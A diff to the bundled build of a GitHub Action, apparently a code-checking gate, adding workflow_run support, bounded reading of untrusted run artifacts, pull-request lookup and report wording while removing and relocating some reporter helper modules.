@@ -31124,12 +31124,19 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("util");
 
 /***/ }),
 
+/***/ 3106:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("zlib");
+
+/***/ }),
+
 /***/ 2909:
 /***/ ((__webpack_module__, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
 /* harmony import */ var _actions_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(8298);
-/* harmony import */ var _action_run_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(1466);
+/* harmony import */ var _action_run_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(6788);
 /* harmony import */ var _source_user_error_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(1821);
 
 
@@ -31154,7 +31161,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 1466:
+/***/ 6788:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -31310,7 +31317,15 @@ const silent = { debug: () => { }, info: () => { }, warn: () => { }, error: () =
 var user_error = __nccwpck_require__(1821);
 ;// CONCATENATED MODULE: ./lib/github/event.js
 
-const supportedEvents = ['pull_request', 'pull_request_target', 'merge_group', 'push', 'schedule', 'workflow_dispatch'];
+const supportedEvents = [
+    'pull_request',
+    'pull_request_target',
+    'merge_group',
+    'push',
+    'schedule',
+    'workflow_dispatch',
+    'workflow_run',
+];
 /** @throws {UserError} for an event that brings no change to check, and for a payload that is not GitHub's */
 function readEvent(name, payload, sha) {
     switch (name) {
@@ -31331,6 +31346,8 @@ function readEvent(name, payload, sha) {
             };
         case 'push':
             return readPush(payload);
+        case 'workflow_run':
+            return readRun(at(payload, 'workflow_run'));
         case 'schedule':
         case 'workflow_dispatch':
             return { kind: 'scan', head: commit(sha, 'GITHUB_SHA') };
@@ -31347,6 +31364,18 @@ function readPush(payload) {
         after: commitOrNull(at(payload, 'after'), 'after'),
         defaultBranch,
         onDefaultBranch: defaultBranch !== null && at(payload, 'ref') === `refs/heads/${defaultBranch}`,
+    };
+}
+function readRun(run) {
+    const repository = at(run, 'head_repository', 'id');
+    return {
+        kind: 'workflow_run',
+        run: positive(at(run, 'id'), 'workflow_run.id'),
+        on: String(at(run, 'event')),
+        head: commit(at(run, 'head_sha'), 'workflow_run.head_sha'),
+        branch: String(at(run, 'head_branch') ?? ''),
+        repository: repository === undefined ? null : positive(repository, 'workflow_run.head_repository.id'),
+        passed: at(run, 'conclusion') === 'success',
     };
 }
 /** `owner/name`, as GITHUB_REPOSITORY holds it. */
@@ -31444,428 +31473,154 @@ function revision(name) {
     return value || null;
 }
 
-;// CONCATENATED MODULE: ./lib/reporters/visible.js
-/** Control, format (bidirectional, zero-width), private and unpaired surrogate characters: what a terminal obeys or a reader cannot see. */
-const visible_hidden = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u;
-const allHidden = new RegExp(visible_hidden.source, 'gu');
-const named = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
-/** One character as text that shows which it is: `\x1b`, `\u202e`, `\u{e0001}`. */
-function spelled(character) {
-    const code = character.codePointAt(0) ?? 0;
-    if (code <= 0xff)
-        return `\\x${code.toString(16).padStart(2, '0')}`;
-    return code <= 0xffff ? `\\u${code.toString(16).padStart(4, '0')}` : `\\u{${code.toString(16)}}`;
-}
-const isHidden = (character) => visible_hidden.test(character);
-/** One line of text in which nothing is hidden and nothing is obeyed; a tab is a space. */
-const visible = (text) => text.replaceAll('\t', ' ').replace(allHidden, (character) => named[character] ?? spelled(character));
-/** At most `length` UTF-16 units, the last of them `…` if something was cut. */
-function shortened(text, length) {
-    if (text.length <= length)
-        return text;
-    const end = length - 1;
-    return `${text.slice(0, isLowSurrogate(text, end) ? end - 1 : end)}…`;
-}
-const isLowSurrogate = (text, at) => (text.charCodeAt(at) & 0xfc00) === 0xdc00;
-/** Columns a terminal gives a character: none for a combining mark, two for East Asian wide ones and emoji. */
-function columns(character) {
-    const code = character.codePointAt(0) ?? 0;
-    if (code < 0x300)
-        return 1;
-    if (/\p{M}/u.test(character))
-        return 0;
-    return wide.some(([first, last]) => code >= first && code <= last) || /\p{Emoji_Presentation}/u.test(character) ? 2 : 1;
-}
-/** Unicode Standard Annex 11, the blocks of East_Asian_Width W and F; unassigned code points in them included. */
-const wide = [
-    [0x1100, 0x115f],
-    [0x2e80, 0x303e],
-    [0x3041, 0x33ff],
-    [0x3400, 0x4dbf],
-    [0x4e00, 0xa4cf],
-    [0xa960, 0xa97f],
-    [0xac00, 0xd7a3],
-    [0xf900, 0xfaff],
-    [0xfe30, 0xfe6f],
-    [0xff00, 0xff60],
-    [0xffe0, 0xffe6],
-    [0x17000, 0x18d8f],
-    [0x1b000, 0x1b2ff],
-    [0x20000, 0x3fffd],
-];
-function width(text) {
-    let sum = 0;
-    for (const character of text)
-        sum += columns(character);
-    return sum;
-}
-/** Lines of at most `limit` columns, broken at spaces; a longer word is broken where it must be. */
-function wrapped(text, limit) {
-    const lines = [];
-    let line = '';
-    for (const word of text.split(' ')) {
-        const joined = line === '' ? word : `${line} ${word}`;
-        if (width(joined) <= limit) {
-            line = joined;
-            continue;
-        }
-        if (line !== '')
-            lines.push(line);
-        const pieces = broken(word, limit);
-        line = pieces.pop() ?? '';
-        lines.push(...pieces);
-    }
-    return [...lines, line];
-}
-function broken(word, limit) {
-    const pieces = [];
-    let piece = '';
-    let used = 0;
-    for (const character of word) {
-        const more = columns(character);
-        if (used + more > limit && piece !== '') {
-            pieces.push(piece);
-            piece = '';
-            used = 0;
-        }
-        piece += character;
-        used += more;
-    }
-    return [...pieces, piece];
-}
+;// CONCATENATED MODULE: external "node:stream/consumers"
+const consumers_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/consumers");
+;// CONCATENATED MODULE: ./lib/github/artifact.js
 
-;// CONCATENATED MODULE: ./lib/reporters/escape.js
-
+/** Of the archive, and of the file in it. A report of ten thousand findings has about eight megabytes, and packed a tenth of that. */
+const maximumArchive = 4_000_000;
+const maximumFile = 16_000_000;
+/** An archive that a run left behind is not what was asked for. Its message holds nothing from it. */
+class WrongArtifact extends Error {
+}
 /**
- * An empty character between two halves of what GitHub would make a link or a mention. It does that on the finished text, so that neither a backslash nor
- * an entity for the character itself keeps it from doing so.
+ * The text of the one file in the newest artifact of that name that a run uploaded; null where there is none. Whoever opened the pull request wrote it,
+ * so it is bounded before it is unpacked, nothing is written to the disk, and the name of the file is not looked at.
+ * @throws {WrongArtifact} where it is not an archive of one file within the bounds; the request's error
  */
-const seam = '&#8203;';
-const entity = (character) => `&#${character.codePointAt(0)};`;
-/** What begins markup, at a line's start or anywhere; what GitHub links: references, mentions and addresses, addresses without a scheme, commit ids. */
-const live = /(?<start>^(?:[-+=]|\d+(?=[.)])))|(?<markup>[\\`*_~[\]<>|!&$])|(?<link>#(?=\w)|^#|@(?=\S)|GH-(?=\d)|:(?=\/\/)|(?:mailto|xmpp)(?=:)|www(?=\.))|(?<commit>(?<![0-9a-z])[0-9a-f]{7,40}(?![0-9a-z]))/gi;
-/** A value as one line of plain Markdown text: no markup, mention, reference, link, image, table cell or block can come out of it. */
-const escape_text = (value) => visible(value)
-    .trim()
-    .replace(live, (found, start, markup, _link, commit) => {
-    if (markup !== undefined || (start !== undefined && /\D/.test(start)))
-        return entity(found);
-    return commit === undefined ? found + seam : found.replace(/.{6}(?=.)/g, `$&${seam}`);
-});
-/** A value as code in one line. Not for table cells. */
-function code(value) {
-    const plain = visible(value);
-    if (plain.trim() === '')
-        return '`(empty)`';
-    const ticks = '`'.repeat(longestRun(plain) + 1);
-    const pad = /^[ `]|[ `]$/.test(plain) ? ' ' : '';
-    return `${ticks}${pad}${plain}${pad}${ticks}`;
-}
-/** A value as code in a table cell, where a bar would end the cell even inside of back-ticks. */
-function cellCode(value) {
-    return value.includes('|') ? `<code>${escape_text(value)}</code>` : code(value);
-}
-/** A message, whose values stand in double quotes and whose own words of code in back-ticks: those as code, the rest as text. */
-function message(value, quoted = code) {
-    const parts = visible(value).split(/"([^"]+)"|`([^`]+)`/);
-    return parts
-        .flatMap((part, at) => {
-        if (at % 3 !== 0)
-            return part === undefined ? [] : [quoted(part)];
-        return [between(part ?? '', at > 0 && at < parts.length - 1)];
-    })
-        .join('');
-}
-/** Words of our own, in which back-ticks mark code. */
-const prose = (value) => value
-    .split(/`([^`]+)`/)
-    .map((part, at) => (at % 2 === 1 ? code(part) : between(part, false)))
-    .join('');
-/** Two pieces of code with nothing between them would share their back-ticks. */
-function between(part, inside) {
-    if (part.trim() === '')
-        return inside && part === '' ? seam : part;
-    return (part.startsWith(' ') ? ' ' : '') + escape_text(part) + (part.endsWith(' ') ? ' ' : '');
-}
-/** Lines as a block of code that none of them can end. */
-function fenced(lines, language = '') {
-    const fence = '`'.repeat(Math.max(3, longestRun(lines.join('\n')) + 1));
-    return [fence + language, ...lines, fence].join('\n');
-}
-function longestRun(value) {
-    return (value.match(/`+/g) ?? []).reduce((longest, run) => Math.max(longest, run.length), 0);
-}
-/** A link to an address of ours. */
-const escape_link = (label, url) => `[${label}](${address(url)})`;
-/** The address with everything encoded that could end a link. */
-const address = (url) => url.replace(/[\s()<>"'`\\|[\]]/g, (character) => encoded(character));
-/** A path as a part of an address. */
-const pathAddress = (path) => path
-    .replace(/\p{Surrogate}/gu, '\ufffd')
-    .split('/')
-    .map((name) => encodeURIComponent(name).replace(/[!'()*]/g, encoded))
-    .join('/');
-const encoded = (character) => `%${character.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;
-
-;// CONCATENATED MODULE: ./lib/source/text.js
-/** The text of one file, with its line starts found on first use. Lines end at LF, as git and GitHub count them; a CR before it belongs to the break. */
-class SourceText {
-    path;
-    value;
-    #starts;
-    constructor(path, value) {
-        this.path = path;
-        this.value = value;
-    }
-    get #lineStarts() {
-        this.#starts ??= lineStarts(this.value);
-        return this.#starts;
-    }
-    get lineCount() {
-        return this.#lineStarts.length;
-    }
-    /** Offsets past the end count as the end. */
-    position(offset) {
-        const starts = this.#lineStarts;
-        const at = Math.max(0, Math.min(offset, this.value.length));
-        let low = 0;
-        let high = starts.length - 1;
-        while (low < high) {
-            const middle = (low + high + 1) >> 1;
-            if ((starts[middle] ?? 0) <= at)
-                low = middle;
-            else
-                high = middle - 1;
-        }
-        return { line: low + 1, column: at - (starts[low] ?? 0) + 1 };
-    }
-    /** The span of a 1-based line without its line break; empty at the end for a line that does not exist. */
-    line(number) {
-        const start = this.#lineStarts[number - 1] ?? this.value.length;
-        let end = this.#lineStarts[number] ?? this.value.length;
-        if (end > start && this.value.charCodeAt(end - 1) === 10)
-            end--;
-        if (end > start && this.value.charCodeAt(end - 1) === 13)
-            end--;
-        return { start, end };
-    }
-    /** The span of a 1-based line with its line break. */
-    lineWithBreak(number) {
-        const start = this.#lineStarts[number - 1] ?? this.value.length;
-        return { start, end: this.#lineStarts[number] ?? this.value.length };
-    }
-    slice(span) {
-        return this.value.slice(span.start, span.end);
-    }
-}
-function lineStarts(value) {
-    const starts = [0];
-    for (let at = value.indexOf('\n'); at >= 0; at = value.indexOf('\n', at + 1))
-        starts.push(at + 1);
-    return starts;
-}
-const contains = (outer, inner) => outer.start <= inner.start && inner.end <= outer.end;
-/** Empty spans overlap what surrounds them, so that an insertion into a masked value counts. */
-const overlaps = (a, b) => a.start === a.end || b.start === b.end ? a.start <= b.end && b.start <= a.end : a.start < b.end && b.start < a.end;
-
-;// CONCATENATED MODULE: ./lib/source/spans.js
-
-/** Sorted, with overlapping and touching spans joined and empty ones left out. */
-function joined(spans) {
-    const result = [];
-    for (const next of [...spans].sort((a, b) => a.start - b.start)) {
-        if (next.end <= next.start)
-            continue;
-        const last = result.at(-1);
-        if (last === undefined || next.start > last.end)
-            result.push(next);
-        else if (next.end > last.end)
-            result[result.length - 1] = { start: last.start, end: next.end };
-    }
-    return result;
-}
-/** Index of the first of joined spans that ends at an offset or behind it. */
-function firstFrom(spans, offset) {
-    let [low, high] = [0, spans.length];
-    while (low < high) {
-        const middle = (low + high) >> 1;
-        if ((spans[middle]?.end ?? 0) < offset)
-            low = middle + 1;
-        else
-            high = middle;
-    }
-    return low;
-}
-/** Whether a span overlaps one of joined spans. */
-function overlapsAny(spans, span) {
-    const first = firstFrom(spans, span.start);
-    return spans.slice(first, first + 2).some((other) => overlaps(other, span));
-}
-
-;// CONCATENATED MODULE: ./lib/reporters/mask.js
-
-
-/** Stands for a credential; its length says nothing. */
-const mask = '********';
-const known = new WeakMap();
-/** One seamless list for each place's masks, so that no seam shows where one credential ends. */
-function joinedMasks(masks) {
-    const spans = known.get(masks) ?? joined(masks);
-    known.set(masks, spans);
-    return spans;
-}
-/** The text of a span with every credential in it, or in part in it, as `********`. */
-function masked({ text, masks }, span) {
-    let result = '';
-    let from = span.start;
-    const spans = joinedMasks(masks);
-    for (let at = firstFrom(spans, span.start); at < spans.length; at++) {
-        const hidden = spans[at];
-        if (hidden === undefined || hidden.start >= span.end)
-            break;
-        if (hidden.end <= from)
-            continue;
-        result += text.value.slice(from, Math.max(from, hidden.start)) + mask;
-        from = hidden.end;
-    }
-    return result + text.value.slice(from, Math.max(from, span.end));
-}
-const touchesMask = ({ masks }, span) => masks.some((hidden) => overlaps(hidden, span));
-/** Credentials of the file that new text repeats word for word. Very short ones are taken for chance. */
-const repeated = ({ text, masks }, written) => masks
-    .filter(({ start, end }) => end - start >= 4)
-    .map((hidden) => text.slice(hidden))
-    .filter((value) => written.includes(value));
-const repeatsMask = (place, written) => repeated(place, written).length > 0;
-/** Text to be written into the file, with what it repeats of the file's credentials as `********`. */
-const withoutRepeats = (place, written) => repeated(place, written).reduce((text, value) => text.replaceAll(value, mask), written);
-
-;// CONCATENATED MODULE: ./lib/reporters/frame.js
-
-
-
-const tabStop = 4;
-/** More combining marks than this on one character are spelled out. */
-const marksEach = 4;
-/** A span of more lines is shown by its first two and its last. */
-const linesWhole = 4;
-/** First and last line of a span; a span that ends with a line break does not reach the next line. */
-function lineRange(text, span) {
-    const first = text.position(span.start).line;
-    const last = text.position(Math.max(span.start, span.end)).line;
-    const before = last > first && text.position(span.end).column === 1 ? last - 1 : last;
-    return { first, last: before };
-}
-/** The lines of a place with carets under its span. Work is bounded by the width, not by the length of a line. */
-function frame_frame(place, options) {
-    const { text, span } = place;
-    const masks = joinedMasks(place.masks);
-    const { first, last } = lineRange(text, span);
-    const rows = [];
-    const context = (from, to) => {
-        for (let number = Math.max(1, from); number <= Math.min(to, lastLine(text)); number++) {
-            rows.push({ kind: 'context', number, text: shownLine(text, number, masks, null, options.width).line });
-        }
-    };
-    context(first - options.context, first - 1);
-    for (let number = first; number <= last; number++) {
-        if (last - first >= linesWhole && number === first + 2) {
-            rows.push({ kind: 'gap', number: null, text: `${last - first - 2} more lines` });
-            number = last;
-        }
-        const { line, carets } = shownLine(text, number, masks, span, options.width);
-        rows.push({ kind: 'line', number, text: line });
-        if (carets !== '')
-            rows.push({ kind: 'carets', number: null, text: carets });
-    }
-    context(last + 1, last + options.context);
-    return rows;
-}
-/** One line, masked, with hidden characters spelled out, cut to the width. */
-const lineText = (place, number, width) => shownLine(place.text, number, joinedMasks(place.masks), null, width).line;
-/** One line of text without credentials, in the same way. */
-const shownText = (text, width) => lineText({ text: new SourceText('', text), masks: [] }, 1, width);
-/** A final line break opens no line that anybody would count. */
-const lastLine = (text) => {
-    const end = text.line(text.lineCount);
-    return text.lineCount > 1 && end.start === text.value.length ? text.lineCount - 1 : text.lineCount;
-};
-function shownLine(text, number, masks, span, width) {
-    const line = text.line(number);
-    const from = span === null ? line.start : windowStart(text, line, span, width);
-    const cells = cellsOf(text.value, { start: from, end: line.end }, masks, width);
-    const reached = cells.at(-1)?.end ?? from;
-    const before = from > line.start ? '…' : '';
-    const after = reached < line.end ? '…' : '';
-    return {
-        line: before + cells.map((cell) => cell.shown).join('') + after,
-        carets: span === null ? '' : caretsUnder(cells, span, before.length),
-    };
-}
-/** The line's start if the line is short, else a third of a width before the span. */
-function windowStart(text, line, span, width) {
-    if (line.end - line.start <= width || span.start - line.start <= width / 2)
-        return line.start;
-    const start = Math.max(line.start, span.start - Math.floor(width / 3));
-    return isLowSurrogate(text.value, start) ? start + 1 : start;
-}
-function cellsOf(value, range, masks, width) {
-    const cells = [];
-    let used = 0;
-    let marks = marksEach;
-    let next = masks.findIndex((hidden) => hidden.end > range.start);
-    for (let at = range.start; at < range.end;) {
-        const hidden = next < 0 ? undefined : masks[next];
-        const inMask = hidden !== undefined && hidden.start <= at;
-        const character = String.fromCodePoint(value.codePointAt(at) ?? 0);
-        const end = inMask ? Math.min(hidden.end, range.end) : at + character.length;
-        const plain = inMask ? mask : shownCharacter(character, used, marks);
-        const taken = plain === character ? columns(character) : plain.length;
-        if (used + taken > width)
-            break;
-        marks = taken === 0 ? marks + 1 : 0;
-        used += taken;
-        cells.push({ start: at, end, shown: plain, columns: taken });
-        if (inMask)
-            next = next + 1 < masks.length ? next + 1 : -1;
-        at = end;
-    }
-    return cells;
-}
-function shownCharacter(character, column, marks) {
-    if (character === '\t')
-        return ' '.repeat(tabStop - (column % tabStop));
-    if (isHidden(character))
-        return spelled(character);
-    return columns(character) === 0 && marks >= marksEach ? spelled(character) : character;
-}
-/** An empty span gets one caret, at the end of the line if need be. Blanks that lead a line of a longer span get none. */
-function caretsUnder(cells, span, indent) {
-    let line = ' '.repeat(indent);
-    let found = false;
-    for (const cell of cells) {
-        const inside = span.start === span.end ? cell.start <= span.start && span.start < cell.end : cell.start < span.end && span.start < cell.end;
-        const blank = !found && cell.shown.trim() === '' && cell.start > span.start;
-        const mark = inside && !blank;
-        found ||= mark;
-        line += (mark ? '^' : ' ').repeat(cell.columns);
-    }
-    if (found)
-        return line.trimEnd();
-    return span.start === span.end && span.start >= (cells.at(-1)?.end ?? span.start) ? `${line}^` : '';
-}
-
-;// CONCATENATED MODULE: ./lib/reporters/links.js
-
-
-/** Permanent links to lines at the commit that was checked. */
-const permalinks = ({ server, name, base, head }) => ({ path, side, text, span }) => {
-    const commit = side === 'base' ? base : head;
-    if (commit === null)
+async function readArtifact({ octokit, owner, repo }, run, name) {
+    const { data } = await octokit.rest.actions.listWorkflowRunArtifacts({ owner, repo, run_id: run, name, per_page: 100 });
+    const [newest] = data.artifacts.filter((item) => item.name === name && !item.expired).sort((a, b) => b.id - a.id);
+    if (newest === undefined)
         return null;
-    const { first, last } = lineRange(text, span);
-    return `${server}/${name}/blob/${commit}/${pathAddress(path)}#L${first}${last > first ? `-L${last}` : ''}`;
-};
+    if (newest.size_in_bytes > maximumArchive)
+        throw new WrongArtifact('too large');
+    const { data: bytes } = await octokit.rest.actions.downloadArtifact({ owner, repo, artifact_id: newest.id, archive_format: 'zip' });
+    const archive = Buffer.from(bytes);
+    if (archive.length > maximumArchive)
+        throw new WrongArtifact('too large');
+    return unpack(archive);
+}
+async function unpack(archive) {
+    const { fromBufferPromise } = await __nccwpck_require__.e(/* import() */ 663).then(__nccwpck_require__.t.bind(__nccwpck_require__, 663, 19));
+    try {
+        const zip = await fromBufferPromise(archive);
+        const { value: entry } = await zip.eachEntry().next();
+        if (zip.entryCount !== 1 || entry === undefined)
+            throw new WrongArtifact('not one file');
+        if (entry.uncompressedSize > maximumFile)
+            throw new WrongArtifact('too large');
+        // The stream fails as soon as it is longer than the archive says.
+        return (await (0,consumers_namespaceObject.buffer)(await zip.openReadStreamPromise(entry))).toString('utf8');
+    }
+    catch (error) {
+        throw error instanceof WrongArtifact ? error : new WrongArtifact('no readable archive');
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/github/companion.js
+/**
+ * The open pull request that a run was for, by nothing but GitHub's own word: the commit, the branch and the repository of the run's head are the
+ * pull request's now. What the run itself left behind has no say in it. Null where the pull request has moved on or was closed.
+ */
+async function pullOfRun({ octokit, owner, repo }, run) {
+    if (run.repository === null || run.branch === '')
+        return null;
+    const answer = await octokit.graphql(query, { owner, repo, branch: run.branch });
+    const [first, ...others] = (answer.repository?.pullRequests.nodes ?? []).filter(({ headRefOid, headRepository }) => headRefOid === run.head && headRepository?.databaseId === run.repository);
+    if (first === undefined)
+        return null;
+    return { number: first.number, base: first.baseRefOid, head: first.headRefOid, others: others.map(({ number }) => number) };
+}
+const query = `query ($owner: String!, $repo: String!, $branch: String!) {
+  repository(owner: $owner, name: $repo) {
+    pullRequests(headRefName: $branch, states: OPEN, first: 100, orderBy: { field: UPDATED_AT, direction: DESC }) {
+      nodes { number headRefOid baseRefOid headRepository { databaseId } }
+    }
+  }
+}`;
+
+;// CONCATENATED MODULE: ./lib/reporters/claim.js
+const verdicts = ['pass', 'fail', 'incomplete'];
+/** Reads a JSON report of version 1; null for anything else. */
+function parseClaim(text) {
+    try {
+        const { version, verdict: said, findings } = JSON.parse(text);
+        const verdict = verdicts.find((name) => name === said);
+        if (version !== 1 || verdict === undefined || !Array.isArray(findings))
+            return null;
+        if (!findings.every(isFinding))
+            return null;
+        return { verdict, introduced: new Set(findings.flatMap(({ status, fingerprint }) => (status === 'introduced' ? [fingerprint] : []))) };
+    }
+    catch {
+        return null;
+    }
+}
+function isFinding(value) {
+    const { fingerprint } = (value ?? {});
+    return typeof fingerprint === 'string' && /^[0-9a-f]{8,64}$/.test(fingerprint);
+}
+
+;// CONCATENATED MODULE: ./lib/reporters/words.js
+
+/** What the gate judges: introduced findings, in a scan all of them, without those that are waived. */
+const judged = (result) => result.findings.filter((finding) => finding.waived === null && finding.status === (result.mode === 'scan' ? 'existing' : 'introduced'));
+/** What somebody gave a reason for is told one by one; what a baseline names is many, and only counted. */
+function waivedFindings({ findings }) {
+    const all = findings.filter((finding) => finding.waived !== null);
+    const told = all.filter(({ waived }) => waived.by !== 'baseline');
+    return { told, inBaseline: all.length - told.length };
+}
+const counted = (count, one, many = `${one}s`) => `${count} ${count === 1 ? one : many}`;
+/** Counts come from the findings, never from what could be shown; what there is none of is not told. */
+function closing(result, shown) {
+    const all = judged(result).length;
+    const word = result.mode === 'scan' ? 'found' : 'introduced';
+    const { existing, fixed, waived } = result.counts;
+    const others = [
+        ...(result.mode === 'scan' || existing === 0 ? [] : [`${existing} existing`]),
+        ...(fixed === 0 ? [] : [`${fixed} fixed`]),
+        ...(waived === 0 ? [] : [`${waived} waived`]),
+    ];
+    const where = shown < all ? `: ${shown} shown here, ${all - shown} elsewhere` : ', all shown here';
+    return [all === 0 ? `Nothing ${word}` : `${all} ${word}${where}`, ...(others.length > 0 ? [others.join(', ')] : [])].join('; ');
+}
+/** How many of the findings one command mends, after a blank; empty where it mends none. */
+function fixWords(result) {
+    const safe = judged(result).filter(({ fix }) => fix?.safe).length;
+    return result.mode === 'scan' || safe === 0 ? '' : ` \`plimsoll fix\` on this branch makes ${counted(safe, 'safe fix', 'safe fixes')}.`;
+}
+const filesWords = ({ files: { checked, recognized, skipped } }) => `${counted(checked, 'file')} checked, ${recognized} of a known kind${skipped.length === 0 ? '' : `; ${skipped.length} skipped`}`;
+const reaches = (severity, limit) => limit !== 'never' && severities.indexOf(severity) <= severities.indexOf(limit);
+function verdictWords(result) {
+    const problems = result.problems.filter((problem) => problem.status === 'introduced').length;
+    switch (result.verdict) {
+        case 'pass':
+            return result.failOn === 'never'
+                ? 'Pass: findings do not fail this run.'
+                : `Pass: nothing ${result.mode === 'scan' ? 'found' : 'introduced'} at or above ${result.failOn}.`;
+        case 'fail':
+            return `Fail: ${failing(result)} (fail-on: ${result.failOn})${problems > 0 ? `; ${counted(problems, 'problem')} left something unjudged` : ''}.`;
+        case 'incomplete':
+            return `Incomplete: ${counted(problems, 'problem')} left something unjudged, so this is no pass.`;
+    }
+}
+/** `2 critical and 3 high findings` */
+function failing(result) {
+    const all = judged(result);
+    const counts = severities
+        .filter((severity) => reaches(severity, result.failOn))
+        .map((severity) => ({ severity, count: all.filter((finding) => finding.severity === severity).length }))
+        .filter(({ count }) => count > 0);
+    const words = counts.map(({ severity, count }) => `${count} ${severity}`);
+    const last = words.splice(-1).join('');
+    return `${words.length === 0 ? '' : `${words.join(', ')} and `}${last} ${counts.at(-1)?.count === 1 ? 'finding' : 'findings'}`;
+}
+/** What a person can do about something that could not be judged. */
+const wayOut = (rule) => rule === null
+    ? 'Mend the file, or leave its path out in the policy if it is meant to be so.'
+    : 'This is a fault of Plimsoll: please report it with the file; the policy can switch the rule off until then.';
 
 ;// CONCATENATED MODULE: ./lib/source/content.js
 /** A file above this is not read (100 MB, GitHub's own limit for a file). */
@@ -31880,8 +31635,9 @@ function decodeContent(bytes) {
     if (bytes.length > maximumBytes)
         return { kind: 'unreadable', reason: 'larger than 100 MB' };
     const encoding = utf16(bytes);
-    if (encoding === null && bytes.subarray(0, sniffedBytes).includes(0))
-        return { kind: 'binary', bytes: bytes.length };
+    if (encoding === null && bytes.subarray(0, sniffedBytes).includes(0)) {
+        return { kind: 'binary', bytes: bytes.length, ...(isEncrypted(bytes) && { encrypted: true }) };
+    }
     try {
         return { kind: 'text', text: new TextDecoder(encoding ?? 'utf-8', { fatal: true }).decode(bytes), bytes: bytes.length, exact: true };
     }
@@ -31913,6 +31669,8 @@ function utf16(bytes) {
         return 'utf-16be';
     return bytes[0] === 0xff && bytes[1] === 0xfe && !(bytes[2] === 0 && bytes[3] === 0) ? 'utf-16le' : null;
 }
+/** The header of git-crypt: no parser takes what begins so for a document. */
+const isEncrypted = (bytes) => buffer(bytes.subarray(0, 10)).equals(Buffer.from('\0GITCRYPT\0'));
 const hasUtf8Mark = (bytes) => bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
 const buffer = (bytes) => Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
 
@@ -31920,7 +31678,7 @@ const buffer = (bytes) => Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byte
 
 
 /** Requests at one time; GitHub allows 100. */
-const blobs_width = 8;
+const width = 8;
 /** Below this many, single requests are as good. */
 const worthBatching = 12;
 /** A batch of more files or more bytes takes GitHub longer than it allows. */
@@ -31997,8 +31755,8 @@ class ApiBlobs {
     }
 }
 async function inTurn(items, work) {
-    for (let at = 0; at < items.length; at += blobs_width)
-        await Promise.all(items.slice(at, at + blobs_width).map(work));
+    for (let at = 0; at < items.length; at += width)
+        await Promise.all(items.slice(at, at + width).map(work));
 }
 
 ;// CONCATENATED MODULE: ./lib/github/tree.js
@@ -33554,6 +33312,101 @@ async function readBaseline(tree) {
     throw new user_error/* UserError */.y(`${baselinePath} in ${tree.name} cannot be read: ${reason}`);
 }
 
+;// CONCATENATED MODULE: ./lib/source/text.js
+/** The text of one file, with its line starts found on first use. Lines end at LF, as git and GitHub count them; a CR before it belongs to the break. */
+class SourceText {
+    path;
+    value;
+    #starts;
+    constructor(path, value) {
+        this.path = path;
+        this.value = value;
+    }
+    get #lineStarts() {
+        this.#starts ??= lineStarts(this.value);
+        return this.#starts;
+    }
+    get lineCount() {
+        return this.#lineStarts.length;
+    }
+    /** Offsets past the end count as the end. */
+    position(offset) {
+        const starts = this.#lineStarts;
+        const at = Math.max(0, Math.min(offset, this.value.length));
+        let low = 0;
+        let high = starts.length - 1;
+        while (low < high) {
+            const middle = (low + high + 1) >> 1;
+            if ((starts[middle] ?? 0) <= at)
+                low = middle;
+            else
+                high = middle - 1;
+        }
+        return { line: low + 1, column: at - (starts[low] ?? 0) + 1 };
+    }
+    /** The span of a 1-based line without its line break; empty at the end for a line that does not exist. */
+    line(number) {
+        const start = this.#lineStarts[number - 1] ?? this.value.length;
+        let end = this.#lineStarts[number] ?? this.value.length;
+        if (end > start && this.value.charCodeAt(end - 1) === 10)
+            end--;
+        if (end > start && this.value.charCodeAt(end - 1) === 13)
+            end--;
+        return { start, end };
+    }
+    /** The span of a 1-based line with its line break. */
+    lineWithBreak(number) {
+        const start = this.#lineStarts[number - 1] ?? this.value.length;
+        return { start, end: this.#lineStarts[number] ?? this.value.length };
+    }
+    slice(span) {
+        return this.value.slice(span.start, span.end);
+    }
+}
+function lineStarts(value) {
+    const starts = [0];
+    for (let at = value.indexOf('\n'); at >= 0; at = value.indexOf('\n', at + 1))
+        starts.push(at + 1);
+    return starts;
+}
+const contains = (outer, inner) => outer.start <= inner.start && inner.end <= outer.end;
+/** Empty spans overlap what surrounds them, so that an insertion into a masked value counts. */
+const overlaps = (a, b) => a.start === a.end || b.start === b.end ? a.start <= b.end && b.start <= a.end : a.start < b.end && b.start < a.end;
+
+;// CONCATENATED MODULE: ./lib/source/spans.js
+
+/** Sorted, with overlapping and touching spans joined and empty ones left out. */
+function joined(spans) {
+    const result = [];
+    for (const next of [...spans].sort((a, b) => a.start - b.start)) {
+        if (next.end <= next.start)
+            continue;
+        const last = result.at(-1);
+        if (last === undefined || next.start > last.end)
+            result.push(next);
+        else if (next.end > last.end)
+            result[result.length - 1] = { start: last.start, end: next.end };
+    }
+    return result;
+}
+/** Index of the first of joined spans that ends at an offset or behind it. */
+function firstFrom(spans, offset) {
+    let [low, high] = [0, spans.length];
+    while (low < high) {
+        const middle = (low + high) >> 1;
+        if ((spans[middle]?.end ?? 0) < offset)
+            low = middle + 1;
+        else
+            high = middle;
+    }
+    return low;
+}
+/** Whether a span overlaps one of joined spans. */
+function overlapsAny(spans, span) {
+    const first = firstFrom(spans, span.start);
+    return spans.slice(first, first + 2).some((other) => overlaps(other, span));
+}
+
 ;// CONCATENATED MODULE: ./lib/core/occurrences.js
 /** UTF-16 units at the start of a value by which it is looked up; no value is shorter. */
 const keyLength = 6;
